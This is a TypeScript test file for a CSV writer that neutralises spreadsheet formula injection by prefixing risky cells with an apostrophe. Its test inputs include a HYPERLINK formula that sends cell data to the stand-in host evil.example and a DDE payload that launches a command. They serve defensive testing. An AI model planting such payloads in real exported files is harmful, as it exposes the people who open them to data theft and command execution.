import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, removeFormulaGuards } from '#domain/encoding/csv-line';
import { caseCount } from '../../support/suite/case-count.ts';

/** Reads a line of CSV as RFC 4180 says: a small reader that shares nothing with the writer. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < line.length; index++) {
    const sign = line.charAt(index);
    if (quoted && sign === '"' && line.charAt(index + 1) === '"') {
      cell += '"';
      index++;
    } else if (sign === '"') {
      quoted = !quoted;
    } else if (sign === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else {
      if (!quoted) throw new Error(`outside of quotes: ${JSON.stringify(sign)}`);
      cell += sign;
    }
  }
  if (quoted) throw new Error('the last quote is missing');
  return [...cells, cell];
}

describe('a CSV line for a spreadsheet', () => {
  it.each<[cells: (string | number | null | undefined)[], line: string]>([
    [['a', 'b'], '"a","b"'],
    [[1, 0, 25_000], '"1","0","25000"'],
    [[null, undefined, ''], '"","",""'],
    [['two, words'], '"two, words"'],
    [['a "word"'], '"a ""word"""'],
    [['"'], '""""'],
    [['one\r\ntwo\nthree'], '"one\r\ntwo\nthree"'],
    [['Заказ 47', 'ұ', '😀'], '"Заказ 47","ұ","😀"'],
    [['a;b', 'a\tb', ' a '], '"a;b","a\tb"," a "'],
    [[], ''],
  ])('%j', (cells, line) => {
    expect(csvLine(cells)).toBe(line);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+7 707 123 45 67',
    '-1+cmd|" /C calc"!A0',
    '@SUM(A1)',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b@SUM(A1)',
    '\ufeff-1',
    '＝1+1',
    '＋7',
    '－1',
    '＠SUM(A1)',
  ])('writes %j as text, never as a formula', (text) => {
    expect(readLine(csvLine([text]))).toEqual([`'${text}`]);
  });

  it.each([
    ['thanks;=1+1', "thanks;'=1+1"],
    ['a,@x', "a,'@x"],
    ['a\t +1', "a\t' +1"],
    ['a\r\n-1', "a\r\n'-1"],
    ['\t=1+1', "'\t'=1+1"],
    ['\nx', "'\nx"],
    ['=1;=2', "'=1;'=2"],
  ])('writes %j without a formula after any separator', (text, safe) => {
    expect(readLine(csvLine([text]))).toEqual([safe]);
    expect(removeFormulaGuards(safe)).toBe(text);
  });

  it('uses ";" when the input used ";"', () => {
    expect(csvLine(['a', 1], ';')).toBe('"a";"1"');
  });

  it('keeps a negative number a number', () => {
    expect(csvLine([-5])).toBe('"-5"');
  });

  it.each(['a=b', "'=1", '1-1', 'a@b.kz', 'payment_47'])('does not change %j', (text) => {
    expect(readLine(csvLine([text]))).toEqual([text]);
  });

  it('keeps any text, except for the apostrophe before a formula', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'a1 '), maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        const read = readLine(csvLine(cells));
        expect(read).toHaveLength(cells.length);
        for (const [index, cell] of cells.entries()) {
          const back = read[index] ?? '';
          for (const part of back.split(/[;,\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@]/);
          expect(cell.includes("'") || removeFormulaGuards(back) === cell).toBe(true);
        }
      }),
      { numRuns: caseCount(1000) },
    );
  });
});
